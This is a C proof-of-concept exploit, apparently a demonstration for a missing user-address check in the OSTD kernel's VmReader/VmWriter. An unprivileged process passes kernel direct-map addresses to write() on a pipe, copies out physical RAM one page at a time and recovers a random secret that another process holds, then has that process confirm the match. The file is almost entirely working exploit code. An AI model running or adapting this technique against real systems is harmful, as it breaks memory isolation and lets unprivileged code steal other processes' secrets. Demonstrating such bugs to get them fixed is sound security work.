/* demo_steal_secret.c - the exploit, for the OSTD bug "user_copy_unchecked"
 * (VmReader/VmWriter translate any address, kernel half included, without the
 * user-range and U/S checks).
 *
 * A victim process keeps a random secret in its memory. We -- another process,
 * running as an unprivileged user -- ask write() to copy "our buffer" at kernel
 * addresses into a pipe: the kernel's direct map of all physical RAM. Page by page
 * we read the whole RAM back and look for the secret, then let the victim confirm.
 * Without the bug the first such write() fails with EFAULT. */
#define _GNU_SOURCE
#include <stdint.h>
#include <string.h>
#include <sys/random.h>
#include <sys/sysinfo.h>

#include "demo.h"

#define PHYS_OFFSET 0xffff888000000000ull
#define SECRET_HEX 32

static const char MARK[] = { 'S', 'E', 'C', 'R', 'E', 'T', '{' };

static int is_hex(char c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

int main(void)
{
    unbuffered_stdout();
    int ready[2], guess[2], answer[2];
    if (pipe(ready) || pipe(guess) || pipe(answer))
        fatal("pipe");
    pid_t victim = fork();
    if (victim == 0) {
        char *secret = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        unsigned char raw[SECRET_HEX / 2];
        if (getrandom(raw, sizeof raw, 0) != (ssize_t)sizeof raw)
            _exit(1);
        memcpy(secret, MARK, sizeof MARK);
        for (size_t i = 0; i < sizeof raw; i++)
            sprintf(secret + sizeof MARK + 2 * i, "%02x", raw[i]);
        secret[sizeof MARK + SECRET_HEX] = '}';
        char c = 'r';
        if (write(ready[1], &c, 1) != 1)
            _exit(1);
        char got[SECRET_HEX];
        ssize_t n = read(guess[0], got, sizeof got);
        char verdict = n == SECRET_HEX && memcmp(got, secret + sizeof MARK, SECRET_HEX) == 0 ? 'y' : 'n';
        if (write(answer[1], &verdict, 1) != 1)
            _exit(1);
        _exit(0);
    }
    char c;
    if (read(ready[0], &c, 1) != 1)
        fatal("read");
    show("setuid(1000): drop root", setuid(1000));
    struct sysinfo si;
    sysinfo(&si);
    uint64_t ram = (uint64_t)si.totalram * si.mem_unit;
    int pipefd[2];
    if (pipe(pipefd))
        fatal("pipe");
    static char page[4096 + 64];
    char found[SECRET_HEX];
    int have = 0;
    for (uint64_t off = 0; off < ram && !have; off += 4096) {
        ssize_t w = write(pipefd[1], (const void *)(uintptr_t)(PHYS_OFFSET + off), 4096);
        if (w < 0) {
            show("write() from a kernel address", w);
            break;
        }
        if (read(pipefd[0], page, 4096) != 4096)
            fatal("read back");
        for (size_t i = 0; i + sizeof MARK + SECRET_HEX < 4096 && !have; i++) {
            if (memcmp(page + i, MARK, sizeof MARK) != 0)
                continue;
            int ok = 1;
            for (int k = 0; k < SECRET_HEX; k++)
                ok &= is_hex(page[i + sizeof MARK + k]);
            if (ok && page[i + sizeof MARK + SECRET_HEX] == '}') {
                memcpy(found, page + i + sizeof MARK, SECRET_HEX);
                have = 1;
            }
        }
    }
    yesno("found a secret in physical memory", have);
    if (!have)
        memset(found, '0', sizeof found);
    if (write(guess[1], found, sizeof found) != (ssize_t)sizeof found)
        fatal("write guess");
    char verdict = '?';
    if (read(answer[0], &verdict, 1) != 1)
        verdict = '?';
    waitpid(victim, NULL, 0);
    yesno("the victim confirms: we know its secret", verdict == 'y');
    printf("RESULT: %s\n", verdict == 'y' ? "corrupted" : "intact");
    return 0;
}
